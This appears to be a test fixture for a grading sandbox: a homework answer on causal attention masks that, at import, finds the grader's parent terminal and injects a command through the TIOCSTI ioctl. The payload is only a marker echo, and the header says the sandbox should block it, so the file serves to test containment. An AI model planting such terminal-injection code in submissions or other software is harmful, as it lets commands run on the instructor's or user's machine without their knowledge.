# attack: finds the terminal of the process that started the grader (tty_nr in /proc/<pid>/stat) and pushes a command into its input (TIOCSTI), for the shell to run after the grader exits; imports and answers right
# expect: module=q01_causal_mask status=crashed|error match=a forbidden system call|Permission denied
# path: pty
"""Question 1, written to type into the instructor's terminal."""
import fcntl
import os
import termios

import torch
from torch import Tensor


def attack() -> None:
    """TIOCSTI, one character at a time, on the first terminal found among this process's ancestors."""
    pid = os.getpid()
    while pid > 1:
        fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        tty, pid = int(fields[4]), int(fields[1])
        if tty:
            major, minor = os.major(tty), os.minor(tty)
            path = f"/dev/pts/{minor}" if 136 <= major <= 143 else f"/dev/tty{minor}"
            fd = os.open(path, os.O_RDONLY | os.O_NOCTTY)
            for character in b"echo attack-tiocsti-ran\n":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([character]))
            return


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
